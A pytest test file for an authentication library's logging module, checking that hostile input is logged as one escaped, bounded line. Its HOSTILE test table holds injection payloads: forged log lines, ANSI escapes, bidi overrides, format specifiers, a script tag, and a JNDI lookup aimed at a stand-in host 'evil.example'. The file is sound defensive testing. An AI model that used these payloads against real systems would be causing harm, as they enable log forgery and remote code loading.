"""Whatever comes from outside is one short line of plain characters in the log."""

from __future__ import annotations

import io
import json
import logging
import re
import secrets
from typing import TYPE_CHECKING

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from intastellar_auth import log
from intastellar_auth.errors import AuthError, CodeRefused, SettingsError, TokenInvalid

if TYPE_CHECKING:
    from collections.abc import Iterator

HOSTILE = {
    "line breaks": "a\nWARNING forged\r\nb\rc\x0bd\x0ce\x85f\u2028g\u2029h",
    "ansi": "\x1b[2J\x1b[31mred\x1b]0;title\x07\x9b31m",
    "bidi": "\u202eevil\u2066\u2067\u2069\u200f",
    "nul": "a\x00b%00c",
    "a megabyte": "A" * 1_000_000,
    "a megabyte of breaks": "\n" * 1_000_000,
    "format": "%s %d %n %(name)s {0} {name!r} {{}}",
    "lookup": "${jndi:ldap://evil.example/a}",
    "quotes": 'a" event="forged',
    "surrogates": "\ud800 \udfff",
    "html": "<script>alert(1)</script>",
    "delete": "\x7f\x08\x08",
}


@pytest.fixture
def written() -> Iterator[io.StringIO]:
    """Return what a plain handler writes of our logger at any level."""
    stream = io.StringIO()
    handler = logging.StreamHandler(stream)
    handler.setFormatter(logging.Formatter("%(levelname)s %(name)s %(message)s"))
    level, propagates = log.logger.level, log.logger.propagate
    log.logger.addHandler(handler)
    log.logger.setLevel(logging.DEBUG)
    log.logger.propagate = False
    yield stream
    log.logger.removeHandler(handler)
    log.logger.setLevel(level)
    log.logger.propagate = propagates


@pytest.mark.parametrize("value", HOSTILE.values(), ids=HOSTILE)
def test_a_hostile_value_is_one_escaped_line_of_limited_length(
    value: str, written: io.StringIO
) -> None:
    """HL-04."""
    log.event(logging.INFO, "happened", {"detail": value, "next": "field"})
    text = written.getvalue()
    assert text.endswith(' next="field"\n')
    assert re.fullmatch(r"[\x20-\x7e]+", text[:-1])
    assert len(text) < 7000
    quoted = re.fullmatch(r'INFO intastellar_auth event=happened detail=(.*) next="field"\n', text)
    assert quoted is not None
    # It is whole where it is short, and can be read back.
    read = json.loads(quoted[1])
    assert read == (value if len(value) <= 500 else value[:500] + "…")


@settings(suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.text(max_size=600) | st.integers() | st.none() | st.binary(max_size=60))
def test_any_value_is_one_line_of_plain_characters(written: io.StringIO, value: object) -> None:
    """HL-04."""
    written.seek(0)
    written.truncate()
    log.event(logging.WARNING, "happened", {"value": value})
    text = written.getvalue()
    assert re.fullmatch(r'WARNING intastellar_auth event=happened value="[\x20-\x7e]*"\n', text)


def test_a_refusal_is_logged_with_its_reference_code_and_detail(written: io.StringIO) -> None:
    log.refusal(TokenInvalid("iss is not ours"), "ABCD-EFGH")
    log.refusal(CodeRefused("spent"), "IJKL-MNOP", level=logging.INFO)
    one, other = written.getvalue().splitlines()
    assert one.startswith("WARNING intastellar_auth event=refused ")
    assert one.endswith(' reference="ABCD-EFGH" code="token_invalid" detail="iss is not ours"')
    assert other.startswith("INFO intastellar_auth event=refused ")
    assert other.endswith(' reference="IJKL-MNOP" code="code_refused" detail="spent"')


def test_what_a_handler_reads_by_field_is_there(caplog: pytest.LogCaptureFixture) -> None:
    fields: dict[str, object] = {"name": "picture", "length": 9}
    log.event(logging.WARNING, "claim_left_out", fields)
    (record,) = caplog.records
    assert record.__dict__["event"] == "claim_left_out"
    assert record.__dict__["fields"] == {"name": "picture", "length": "9"}


def test_a_field_is_as_short_for_a_handler_as_in_the_line(caplog: pytest.LogCaptureFixture) -> None:
    """HL-04: a handler that writes JSON reads fields, not the line."""
    log.event(logging.WARNING, "claim_left_out", {"name": "x" * 1_000_000})
    (record,) = caplog.records
    assert len(record.__dict__["fields"]["name"]) < 600


def test_an_event_below_the_level_costs_no_formatting(written: io.StringIO) -> None:
    class Loud:
        """Must not be asked for its text."""

        def __str__(self) -> str:
            raise AssertionError

    log.logger.setLevel(logging.ERROR)
    log.event(logging.WARNING, "happened", {"value": Loud()})
    assert written.getvalue() == ""
    with pytest.raises(AssertionError):
        log.event(logging.ERROR, "happened", {"value": Loud()})


def test_a_reference_can_be_read_out_and_does_not_come_twice() -> None:
    references = {log.new_reference(secrets.token_bytes) for _ in range(1000)}
    assert len(references) == 1000
    assert all(re.fullmatch(r"[A-Z2-7]{4}-[A-Z2-7]{4}", each) for each in references)


def test_a_reference_comes_from_the_source_that_was_given() -> None:
    """TM-03."""
    assert log.new_reference(bytes) == "AAAA-AAAA"


@pytest.mark.parametrize("error", [SettingsError("x"), AuthError("x")])
def test_every_error_can_be_logged(error: AuthError, written: io.StringIO) -> None:
    log.refusal(error, "R", level=logging.ERROR)
    assert f'code="{error.code}" detail="x"' in written.getvalue()
